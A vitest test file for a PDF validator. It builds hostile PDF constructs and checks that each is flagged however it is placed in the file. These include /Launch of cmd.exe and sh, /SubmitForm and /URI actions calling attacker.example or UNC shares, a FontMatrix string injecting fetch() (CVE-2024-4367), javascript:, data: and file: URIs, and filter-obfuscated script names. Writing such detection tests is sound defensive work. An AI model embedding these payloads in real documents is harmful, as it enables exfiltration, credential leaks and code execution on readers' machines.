import { deflateSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import {
  ascii85,
  buildClassicPdf,
  buildPdf,
  incrementalUpdate,
  linkAnnotations,
  outlineItem,
  pageObjects,
  type PdfObj,
  utf16Hex,
} from '../../../fixtures/active-pdf.ts';
import { codes, inspect } from '../helpers.ts';

/**
 * Round 12: the techniques public catalogues of hostile PDFs list — the malicious-pdf generator's
 * phone-home and code-running files, the names pdfid and peepdf flag, the action types pdf.js
 * and PDFium carry out — each built here with our own fixtures (none of their code), in the
 * file's own syntax, packed in an object stream and arriving in an incremental update, and what
 * the validator says of it. Two were VALID or only a warning where a reader acts without a click:
 * a presentation step's action (/PresSteps) and a font matrix holding a string (pdf.js's
 * CVE-2024-4367); the rest were refused already and are pinned here.
 */

const UNC = '(\\\\\\\\attacker.example\\\\share\\\\x.pdf)';
const WEB = '(http://attacker.example/t)';
const URL_SPEC = '<< /FS /URL /F (http://attacker.example/x) >>';

/** The catalog, page tree, page, content and font of pageObjects, as a base an update changes. */
const PLAIN_PAGES = pageObjects();

/**
 * The same objects written three ways: in the file's own syntax (a classic table), packed in an
 * object stream (every object that is no stream, but the page tree), and as an incremental update
 * of a harmless file that brings every object that differs from it.
 */
function placed(objects: PdfObj[]): Array<[string, Buffer]> {
  const packable = objects.filter((o) => !o.stream && o.num !== 2).map((o) => o.num);
  const changed = objects.filter((o) => PLAIN_PAGES.find((p) => p.num === o.num)?.body !== o.body);
  return [
    ['plain', buildClassicPdf(objects)],
    ['packed', buildPdf(objects, { packed: packable })],
    ['in an update', incrementalUpdate(buildClassicPdf(PLAIN_PAGES), changed)],
  ];
}

const judged = async (pdf: Buffer) => {
  const result = await inspect(pdf, 'pdf');
  return {
    codes: codes(result),
    features: result.findings.map((f) => (f.detail as { feature?: string } | undefined)?.feature),
    warnings: result.warnings.map((w) => (w.detail as { target?: string } | undefined)?.target),
  };
};

/** The page objects with a page whose /PresSteps is `steps` (a navigation node), and `more`. */
const presenting = (steps: string, more: PdfObj[] = []): PdfObj[] => [
  ...pageObjects('/PageMode /FullScreen', `/PresSteps ${steps}`),
  ...more,
];

describe('a presentation step’s actions (/PresSteps), run as the step advances, by itself after /Dur', () => {
  it.each([
    [
      'a web /URI as the next action',
      presenting(`<< /Type /NavNode /NA << /S /URI /URI ${WEB} >> /Dur 0 >>`),
      '/NA /URI',
    ],
    [
      'a /GoToR as the previous action of the next node, by reference',
      presenting('6 0 R', [
        { num: 6, body: '<< /Type /NavNode /NA << /S /SetOCGState /State [/ON 9 0 R] >> /Next 7 0 R /Dur 1 >>' },
        { num: 7, body: '<< /Type /NavNode /PA 8 0 R /Prev 6 0 R >>' },
        { num: 8, body: '<< /S /GoToR /F (http://attacker.example/x.pdf) /D [0 /Fit] >>' },
      ]),
      '/PA /GoToR',
    ],
    [
      'a node without /Type, its key escaped, through an object that is a reference',
      presenting('6 0 R', [
        { num: 6, body: '<< /N#41 7 0 R >>' },
        { num: 7, body: '8 0 R' },
        { num: 8, body: `<< /S /URI /URI ${WEB} >>` },
      ]),
      '/NA /URI',
    ],
    [
      'a list of actions, the second calling out',
      presenting(`<< /NA [<< /S /SetOCGState /State [] >> << /S /URI /URI ${WEB} >>] >>`),
      '/NA /URI',
    ],
    [
      'a /GoTo whose /Next opens another file',
      presenting('<< /NA << /S /GoTo /D [3 0 R /Fit] /Next << /S /GoToR /F (annex.pdf) >> >> >>'),
      '/NA /GoToR',
    ],
    ['a menu command', presenting('<< /NA << /S /Named /N /Print >> >>'), '/NA /Named'],
  ])('refuses %s, plain, packed and in an update', async (_, objects, feature) => {
    for (const [where, pdf] of placed(objects))
      expect(await judged(pdf), where).toMatchObject({ codes: ['PDF_ACTION'], features: [feature] });
  });

  it('keeps steps that only change what is shown VALID (sub-page navigation)', async () => {
    const steps = presenting(
      '<< /Type /NavNode /NA << /S /SetOCGState /State [/Toggle 9 0 R] /Next [<< /S /Hide /T (a) /H false >> << /S /Trans /Trans << /S /Dissolve >> >>] >> /PA << /S /GoTo /D [3 0 R /Fit] >> /Dur 2 >>',
    );
    for (const [where, pdf] of placed(steps))
      expect(await judged(pdf), where).toEqual({ codes: [], features: [], warnings: [] });
  });

  it('follows each number once for all the steps: many naming one long list cost no more than one', async () => {
    // 40,000 nodes naming one list of 40,000 references: followed per node, 1.6 billion steps.
    const many = 40_000;
    const steps = presenting('6 0 R', [
      { num: 6, body: `[${'<< /NA 7 0 R >> '.repeat(many)}]` },
      { num: 7, body: `[${'8 0 R '.repeat(many)}9 0 R]` },
      { num: 8, body: '<< /S /SetOCGState /State [] >>' },
      { num: 9, body: `<< /S /URI /URI ${WEB} >>` },
    ]);
    const started = performance.now();
    expect(await judged(buildClassicPdf(steps))).toMatchObject({ codes: ['PDF_ACTION'], features: ['/NA /URI'] });
    expect(performance.now() - started).toBeLessThan(4000);
  });

  it('keeps a link’s /PA, Web Capture’s saved address, a link: a warning', async () => {
    const captured = linkAnnotations(
      '<< /S /GoTo /D [3 0 R /Fit] >> /PA << /S /URI /URI (https://www.miit.gov.cn/) >>',
    );
    for (const [where, pdf] of placed(captured))
      expect(await judged(pdf), where).toEqual({ codes: [], features: [], warnings: ['https://www.miit.gov.cn/'] });
  });
});

describe('a font matrix holding a string (pdf.js before 4.2.67 compiled it into glyph code: CVE-2024-4367)', () => {
  const font = (entries: string): PdfObj => ({
    num: 5,
    body: `<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica ${entries} >>`,
  });

  it.each([
    ['a string as its last item', [font('/FontMatrix [1 0 0 1 0 (0\\); fetch\\("http://attacker.example/"\\))]')]],
    ['a string in a nested array', [font('/FontMatrix [0.001 0 0 0.001 0 [(x)]]')]],
    ['a hex string, the key escaped', [font('/Font#4datrix [1 0 0 1 0 <3029>]')]],
    ['the matrix by reference', [font('/FontMatrix 6 0 R'), { num: 6, body: '[1 0 0 1 0 (x)]' }]],
    ['an item by reference', [font('/FontMatrix [1 0 0 1 0 6 0 R]'), { num: 6, body: '(x)' }]],
    ['the string the earlier of two matrices', [font('/FontMatrix [1 0 0 1 0 (x)] /FontMatrix [1 0 0 1 0 0]')]],
    [
      'a Type 3 font',
      [
        {
          num: 5,
          body: '<< /Type /Font /Subtype /Type3 /FontBBox [0 0 1 1] /FontMatrix [1 0 0 1 0 (x)] /CharProcs << >> /Encoding << /Differences [] >> /FirstChar 0 /LastChar 0 /Widths [0] >>',
        },
      ],
    ],
  ])('refuses %s, plain, packed and in an update', async (_, fonts) => {
    const objects = [...PLAIN_PAGES.filter((o) => o.num !== 5), ...fonts];
    for (const [where, pdf] of placed(objects))
      expect(await judged(pdf), where).toMatchObject({
        codes: ['PDF_SCRIPT'],
        features: ['/FontMatrix (holds a string)'],
      });
  });

  it('keeps matrices of numbers VALID, however written (exponents too, which pdf.js reads)', async () => {
    const type3 = {
      num: 5,
      body: '<< /Type /Font /Subtype /Type3 /FontBBox [0 0 750 750] /FontMatrix [.001 0 0 -0.001 +0 1E-3] /CharProcs << >> /Encoding << /Differences [] >> /FirstChar 0 /LastChar 0 /Widths [0] >>',
    };
    for (const [where, pdf] of placed([...PLAIN_PAGES.filter((o) => o.num !== 5), type3]))
      expect(codes(await inspect(pdf, 'pdf')), where).toEqual([]);
  });
});

/** A page whose annotation 6 is `annot`. */
const annotated = (annot: string, catalog = '', more: PdfObj[] = []): PdfObj[] => [
  ...pageObjects(catalog, '/Annots [6 0 R]'),
  { num: 6, body: `<< /Type /Annot /Rect [0 0 595 842] ${annot} >>` },
  ...more,
];

describe('the catalogues’ techniques, each refused however placed', () => {
  it.each([
    // malicious-pdf: actions that fetch, open or run.
    ['/GoToE into a share', linkAnnotations(`<< /S /GoToE /F ${UNC} /T << /R /C /N (a) >> >>`), 'PDF_ACTION'],
    [
      '/GoToE to an https address',
      linkAnnotations('<< /S /GoToE /F (https://attacker.example/x.pdf) /T << /R /C /N (a) >> >>'),
      'PDF_ACTION',
    ],
    [
      '/GoToE to a javascript: address',
      pageObjects('/OpenAction << /S /GoToE /F (javascript:alert(1)) >>'),
      'PDF_ACTION',
    ],
    ['an opening /Launch of a URL', pageObjects(`/OpenAction << /S /Launch /F ${URL_SPEC} >>`), 'PDF_SCRIPT'],
    [
      '/Launch /Win printing a share’s file',
      pageObjects(`/OpenAction << /S /Launch /Win << /F ${UNC} /O (print) >> >>`),
      'PDF_SCRIPT',
    ],
    ['a /GoToR into a share on a click', linkAnnotations(`<< /S /GoToR /F ${UNC} /D [0 /Fit] >>`), 'PDF_ACTION'],
    ['a /Thread into a share on a click', linkAnnotations(`<< /S /Thread /F ${UNC} /D 0 >>`), 'PDF_ACTION'],
    ['a /URI into a share on a click', linkAnnotations(`<< /S /URI /URI ${UNC} >>`), 'PDF_ACTION'],
    ['an opening /URI (PDFium without a gesture)', pageObjects(`/OpenAction << /S /URI /URI ${WEB} >>`), 'PDF_ACTION'],
    [
      'a /SubmitForm sending the whole file',
      annotated(
        `/Subtype /Widget /FT /Btn /T (b) /A << /S /SubmitForm /F ${URL_SPEC} /Flags 256 >>`,
        '/AcroForm << /Fields [6 0 R] >>',
      ),
      'PDF_ACTION',
    ],
    ['an /ImportData of a URL', linkAnnotations(`<< /S /ImportData /F ${URL_SPEC} >>`), 'PDF_ACTION'],
    [
      'a link whose /A is written twice, the first a script',
      annotated(
        `/Subtype /Link /A << /S /JavaScript /JS (app.openDoc\\(\\)) >> /A << /S /URI /URI (https://www.miit.gov.cn/) >>`,
      ),
      'PDF_SCRIPT',
    ],
    [
      'page-visible and page-close /AA on a screen annotation',
      annotated(`/Subtype /Screen /AA << /PV << /S /URI /URI ${WEB} >> /PC << /S /URI /URI ${WEB} >> >>`),
      'PDF_ACTION',
    ],
    ['a mouse-enter /AA on a link', annotated(`/Subtype /Link /AA << /E << /S /URI /URI ${WEB} >> >>`), 'PDF_ACTION'],
    [
      'the catalog’s will-close and did-save /AA',
      pageObjects(`/AA << /WC << /S /URI /URI ${WEB} >> /DS << /S /URI /URI ${WEB} >> >>`),
      'PDF_ACTION',
    ],
    [
      'a page’s open /AA (jsPDF object injection)',
      pageObjects('', `/AA << /O << /S /URI /URI ${WEB} >> >>`),
      'PDF_ACTION',
    ],
    [
      'a document script in /Names',
      pageObjects('/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (this.getURL\\(\\)) >>] >> >>'),
      'PDF_SCRIPT',
    ],
    [
      'XFA with a submit event',
      pageObjects('/AcroForm << /Fields [] /XFA [(template) 6 0 R] >>', '', 'x').concat([
        { num: 6, body: '', stream: Buffer.from('<template><submit target="http://attacker.example/"/></template>') },
      ]),
      'PDF_SCRIPT',
    ],
    [
      'a rich media annotation',
      annotated('/Subtype /RichMedia /RichMediaContent << /Assets << /Names [(a.html) 7 0 R] >> >>', '', [
        { num: 7, body: `<< /Type /Filespec /F (a.html) /UF ${utf16Hex('a.html')} >>` },
      ]),
      'PDF_SCRIPT',
    ],
    [
      'an image whose data is a remote file (/FS /URL)',
      [
        ...pageObjects('', '/Resources << /XObject << /Im0 6 0 R >> >>'),
        {
          num: 6,
          body: `/Type /XObject /Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 /ColorSpace /DeviceRGB /FFilter /DCTDecode /F ${URL_SPEC}`,
          stream: Buffer.alloc(0),
        },
      ],
      'PDF_ACTION',
    ],
    [
      'a font program that is a remote file',
      [
        ...pageObjects(),
        { num: 5, body: '<< /Type /Font /Subtype /Type1 /BaseFont /X /FontDescriptor 6 0 R >>' },
        { num: 6, body: '<< /Type /FontDescriptor /FontName /X /Flags 4 /FontFile 7 0 R >>' },
        { num: 7, body: `/F ${URL_SPEC} /Length1 0`, stream: Buffer.alloc(0) },
      ],
      'PDF_ACTION',
    ],
    [
      'an ICC profile that is a share’s file',
      [
        ...pageObjects('', '/Resources << /ColorSpace << /CS0 [/ICCBased 6 0 R] >> >>'),
        { num: 6, body: `/N 3 /F ${UNC}`, stream: Buffer.alloc(0) },
      ],
      'PDF_ACTION',
    ],
    [
      'an associated file embedded in the catalog (/AF, /EF)',
      pageObjects('/AF [<< /Type /Filespec /F (a.html) /AFRelationship /Supplement /EF << /F 6 0 R >> >>]'),
      'PDF_ATTACHMENT',
    ],
    // Schemes handed to programs.
    ['a javascript: /URI', linkAnnotations('<< /S /URI /URI (JaVaScRiPt:fetch\\(1\\)) >>'), 'PDF_ACTION'],
    [
      'a data: /URI',
      linkAnnotations('<< /S /URI /URI (data:text/html,<script>alert\\(1\\)</script>) >>'),
      'PDF_ACTION',
    ],
    ['a file: /URI', linkAnnotations('<< /S /URI /URI (file:///C:/Windows/win.ini) >>'), 'PDF_ACTION'],
    [
      'LibreOffice’s vnd.sun.star.expand: /URI',
      linkAnnotations('<< /S /URI /URI (vnd.sun.star.expand:http://a/$HOME) >>'),
      'PDF_ACTION',
    ],
    // /SubmitForm in every place an action sits.
    [
      'a /SubmitForm in a field’s keystroke /AA',
      annotated(
        `/Subtype /Widget /FT /Tx /T (a) /AA << /K << /S /SubmitForm /F ${URL_SPEC} >> >>`,
        '/AcroForm << /Fields [6 0 R] >>',
      ),
      'PDF_ACTION',
    ],
    [
      'a /SubmitForm on a free text annotation’s /A',
      annotated(`/Subtype /FreeText /DA (/Helv 9 Tf) /Contents (a) /A << /S /SubmitForm /F ${URL_SPEC} >>`),
      'PDF_ACTION',
    ],
    [
      'a /SubmitForm at the end of a /Next chain',
      linkAnnotations(
        `<< /S /GoTo /D [3 0 R /Fit] /Next [<< /S /Hide /T (a) >> << /S /Submit#46orm /F ${URL_SPEC} >>] >>`,
      ),
      'PDF_ACTION',
    ],
    ['a /SubmitForm on an outline item', outlineItem(`<< /S /SubmitForm /F ${URL_SPEC} >>`), 'PDF_ACTION'],
    // Media that plays, 3D that runs, a portfolio's navigator, names trees through /Kids.
    ['a /Sound action of a URL', linkAnnotations(`<< /S /Sound /Sound << /F ${URL_SPEC} >> >>`), 'PDF_ACTION'],
    [
      'a /Rendition of a URL on a screen annotation',
      annotated(`/Subtype /Screen /A << /S /Rendition /OP 0 /R << /S /MR /C << /S /MCD /D ${URL_SPEC} >> >> >>`),
      'PDF_ACTION',
    ],
    [
      'a 3D model with its script',
      annotated('/Subtype /3D /3DD 7 0 R', '', [
        { num: 7, body: '/Type /3D /Subtype /U3D /OnInstantiate 8 0 R', stream: Buffer.from('U3D') },
      ]),
      'PDF_SCRIPT',
    ],
    [
      'a 3D model in PRC',
      annotated('/Subtype /3D /3DD 7 0 R /3DA << /A /PO >>', '', [
        { num: 7, body: '/Type /3D /Subtype /PRC', stream: Buffer.from('PRC') },
      ]),
      'PDF_SCRIPT',
    ],
    [
      'a rich media Flash instance',
      annotated(
        '/Subtype /RichMedia /RichMediaContent << /Configurations [<< /Subtype /Flash /Instances [<< /Subtype /Flash /Asset 7 0 R >>] >>] >>',
        '',
        [{ num: 7, body: `<< /Type /Filespec /F (v.swf) /UF ${utf16Hex('v.swf')} >>` }],
      ),
      'PDF_SCRIPT',
    ],
    [
      'a portfolio navigator',
      pageObjects('/Collection << /View /C /Navigator << /Type /Navigator /SWF (nav.swf) >> >>'),
      'PDF_SCRIPT',
    ],
    [
      'a /JavaScript names tree through /Kids',
      pageObjects('/Names << /JavaScript << /Kids [6 0 R] >> >>').concat([
        { num: 6, body: '<< /Names [(a) << /S /JavaScript /JS (x) >>] /Limits [(a) (a)] >>' },
      ]),
      'PDF_SCRIPT',
    ],
    [
      'a requirement handler naming a script',
      pageObjects(
        '/Requirements [<< /Type /Requirement /S /EnableJavaScripts /RH [<< /Type /ReqHandler /S /JS /Script (a) >>] >>]',
      ),
      'PDF_SCRIPT',
    ],
  ])('refuses %s', async (_, objects, code) => {
    for (const [where, pdf] of placed(objects)) expect(codes(await inspect(pdf, 'pdf')), where).toContain(code);
  });
});

describe('remote targets placed where a destination goes, and /SubmitForm on every annotation', () => {
  it('refuses a /GoToR into a share kept as a named destination, in /Dests and in a /Names tree through /Kids', async () => {
    const gotoShare = `<< /S /GoToR /F ${UNC} /D (chapter) >>`;
    const inDests = [
      ...pageObjects(`/Dests << /annex ${gotoShare} >>`, '/Annots [6 0 R]'),
      { num: 6, body: '<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /Dest /annex >>' },
    ];
    const inTree = [
      ...pageObjects('/Names << /Dests 7 0 R >> /OpenAction (annex)'),
      { num: 7, body: '<< /Kids [8 0 R] >>' },
      { num: 8, body: `<< /Names [(annex) ${gotoShare}] /Limits [(annex) (annex)] >>` },
    ];
    for (const objects of [inDests, inTree])
      for (const [where, pdf] of placed(objects))
        expect(await judged(pdf), where).toMatchObject({
          codes: ['PDF_ACTION'],
          features: ['/GoToR \\\\attacker.example\\share\\x.pdf'],
        });
  });

  it('keeps named destinations that are places VALID, an opening one included', async () => {
    const named = [
      ...pageObjects('/Names << /Dests << /Names [(annex) << /D [3 0 R /Fit] >>] >> >> /OpenAction (annex)'),
    ];
    for (const [where, pdf] of placed(named)) expect(codes(await inspect(pdf, 'pdf')), where).toEqual([]);
  });

  const SUBTYPES = [
    'Text',
    'Link',
    'FreeText',
    'Line',
    'Square',
    'Circle',
    'Polygon',
    'PolyLine',
    'Highlight',
    'Underline',
    'Squiggly',
    'StrikeOut',
    'Stamp',
    'Caret',
    'Ink',
    'Popup',
    'Widget',
    'Screen',
    'PrinterMark',
    'TrapNet',
    'Watermark',
    'Redact',
    'Projection',
  ];

  it('refuses a /SubmitForm on an annotation of every subtype, by /A and by /AA, and on the page and the catalog', async () => {
    const submit = `<< /S /SubmitForm /F ${URL_SPEC} >>`;
    const places = [
      ...SUBTYPES.flatMap((subtype) => [
        annotated(`/Subtype /${subtype} /A ${submit}`),
        annotated(`/Subtype /${subtype} /AA << /U ${submit} >>`),
      ]),
      pageObjects('', `/AA << /O ${submit} >>`),
      pageObjects(`/AA << /WC ${submit} >>`),
    ];
    for (const objects of places)
      for (const [where, pdf] of placed(objects))
        expect(codes(await inspect(pdf, 'pdf')), where).toContain('PDF_ACTION');
  });
});

describe('round 14: actions and their carriers not pinned before, each refused however placed', () => {
  const annotation = (body: string): PdfObj[] => [
    ...pageObjects('', '/Annots [6 0 R]'),
    { num: 6, body: `<< /Type /Annot /Rect [0 0 9 9] ${body} >>` },
  ];
  it.each([
    [
      '/AF on the catalog embedding a file',
      pageObjects('/AF [<< /Type /Filespec /F (a.txt) /EF << /F 9 0 R >> >>]'),
      'PDF_ATTACHMENT',
    ],
    [
      '/AF on an annotation embedding a file',
      annotation('/Subtype /Square /AF [<< /Type /Filespec /UF (a.txt) /EF << /F 9 0 R >> >>]'),
      'PDF_ATTACHMENT',
    ],
    [
      '/RichMedia with a Flash configuration instance',
      annotation(
        '/Subtype /RichMedia /RichMediaContent << /Configurations [<< /Type /RichMediaConfiguration /Subtype /Flash /Instances [<< /Subtype /Flash /Asset 9 0 R >>] >>] >>',
      ),
      'PDF_SCRIPT',
    ],
    [
      'a /3D annotation whose stream has /OnInstantiate',
      annotation('/Subtype /3D /3DD << /Type /3DStream /Subtype /U3D /OnInstantiate 9 0 R >>'),
      'PDF_SCRIPT',
    ],
    ['a /3D annotation, its key escaped', annotation('/Subtype /3D /#33DD 9 0 R /3DA << /A /PO >>'), 'PDF_SCRIPT'],
    ['/Rendition with /JS', linkAnnotations('<< /S /Rendition /OP 0 /JS (app.alert\\(1\\)) >>'), 'PDF_SCRIPT'],
    [
      '/GoToE into the portfolio',
      linkAnnotations('<< /S /GoToE /NewWindow true /T << /R /C /N (x.pdf) >> >>'),
      'PDF_ACTION',
    ],
    ['/ImportData of a relative file', linkAnnotations('<< /S /ImportData /F (x.fdf) >>'), 'PDF_ACTION'],
    ['/SubmitForm with /Flags', linkAnnotations(`<< /S /SubmitForm /F ${URL_SPEC} /Flags 260 >>`), 'PDF_ACTION'],
    ['/Named as the opening action', pageObjects('/OpenAction << /S /Named /N /Print >>'), 'PDF_ACTION'],
    [
      '/Trans as the opening action',
      pageObjects('/OpenAction << /S /Trans /Trans << /S /Dissolve >> >>'),
      'PDF_ACTION',
    ],
    [
      '/AA on a field’s parent, inherited by its widget, its key escaped',
      pageObjects('/AcroForm << /Fields [6 0 R] >>', '/Annots [7 0 R]').concat([
        { num: 6, body: '<< /FT /Tx /T (p) /Kids [7 0 R] /A#41 << /K 8 0 R >> >>' },
        { num: 7, body: '<< /Type /Annot /Subtype /Widget /Parent 6 0 R /Rect [0 0 9 9] >>' },
        { num: 8, body: `<< /S /URI /URI ${WEB} >>` },
      ]),
      'PDF_ACTION',
    ],
    [
      'a /JavaScript names tree two /Kids deep, its action type escaped',
      pageObjects('/Names << /JavaScript 6 0 R >>').concat([
        { num: 6, body: '<< /Kids [7 0 R] >>' },
        { num: 7, body: '<< /Kids [8 0 R] >>' },
        { num: 8, body: '<< /Names [(a) << /S /J#61vaScript /J#53 (x) >>] /Limits [(a) (a)] >>' },
      ]),
      'PDF_SCRIPT',
    ],
    [
      'a portfolio’s navigator',
      pageObjects('/Collection << /Type /Collection /Navigator << /Type /Navigator /Layout /Custom >> >>'),
      'PDF_SCRIPT',
    ],
    ['/Launch with /Win', linkAnnotations('<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>'), 'PDF_SCRIPT'],
    ['/Launch with /Mac', linkAnnotations('<< /S /Launch /Mac (Calculator.app) >>'), 'PDF_SCRIPT'],
    ['/Launch with /Unix, escaped', linkAnnotations('<< /S /L#61unch /Unix (sh) >>'), 'PDF_SCRIPT'],
    [
      'a catalog /URI /Base into a share under a relative link',
      pageObjects(`/URI << /Base ${UNC} >>`, '/Annots [6 0 R]').concat([
        { num: 6, body: '<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (x.pdf) >> >>' },
      ]),
      'PDF_ACTION',
    ],
  ])('refuses %s', async (_, objects, code) => {
    for (const [where, pdf] of placed(objects)) expect(codes(await inspect(pdf, 'pdf')), where).toContain(code);
  });

  it('keeps what a click only shows VALID: /Named, /Trans, /Hide, /SetOCGState on a link, a page /Trans, an empty portfolio', async () => {
    const shown = [
      linkAnnotations(
        '<< /S /Named /N /NextPage >>',
        '<< /S /Trans /Trans << /S /Dissolve >> >>',
        '<< /S /Hide /T (a) >>',
      ),
      pageObjects('/Collection << /Type /Collection /View /D >>', '/Trans << /S /Wipe /D 1 >>'),
    ];
    for (const objects of shown)
      for (const [where, pdf] of placed(objects)) expect(codes(await inspect(pdf, 'pdf')), where).toEqual([]);
  });
});

describe('round 14: an escaped script name packed under the encodings the brief listed, read as pdf.js reads them', () => {
  /** PNG "Up" rows of `columns` bytes, each after its tag byte. */
  const pngUp = (plain: Buffer, columns: number): Buffer => {
    const padded = Buffer.concat([plain, Buffer.alloc((columns - (plain.length % columns)) % columns, 0x20)]);
    const rows: Buffer[] = [];
    for (let r = 0; r < padded.length / columns; r++) {
      const row = padded.subarray(r * columns, (r + 1) * columns);
      const above = r > 0 ? padded.subarray((r - 1) * columns, r * columns) : Buffer.alloc(columns);
      rows.push(Buffer.from([2, ...row.map((b, i) => (b - (above[i] as number)) & 0xff)]));
    }
    return Buffer.concat(rows);
  };
  const runLength = (plain: Buffer, end: boolean): Buffer => {
    const out: number[] = [];
    for (let i = 0; i < plain.length; i += 128)
      out.push(Math.min(128, plain.length - i) - 1, ...plain.subarray(i, i + 128));
    return Buffer.from(end ? [...out, 128] : out);
  };
  const opening = [
    ...pageObjects('/OpenAction 6 0 R'),
    { num: 6, body: '<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>' },
  ];
  it.each<[string, (plain: Buffer) => [string, Buffer]]>([
    [
      '[/ASCIIHexDecode /FlateDecode] with [null << /Predictor 12 /Columns 5 >>]',
      (p) => [
        '/Filter [/ASCIIHexDecode /FlateDecode] /DecodeParms [null << /Predictor 12 /Columns 5 >>]',
        Buffer.from(`${deflateSync(pngUp(p, 5)).toString('hex')}>`, 'latin1'),
      ],
    ],
    ['/RunLengthDecode without its end', (p) => ['/Filter /RunLengthDecode', runLength(p, false)]],
    ['/ASCII85Decode without ~>', (p) => ['/Filter [/A85 /Fl]', ascii85(deflateSync(p)).subarray(0, -2)]],
    [
      '/Crypt with /Identity before Flate',
      (p) => ['/Filter [/Crypt /FlateDecode] /DecodeParms [<< /Name /Identity >> null]', deflateSync(p)],
    ],
  ])('reads the opening script under %s', async (_, encoder) => {
    const pdf = buildPdf(opening, { packed: [1, 6], encoder });
    expect(codes(await inspect(pdf, 'pdf'))).toEqual(['PDF_SCRIPT', 'PDF_ACTION']);
  });
});
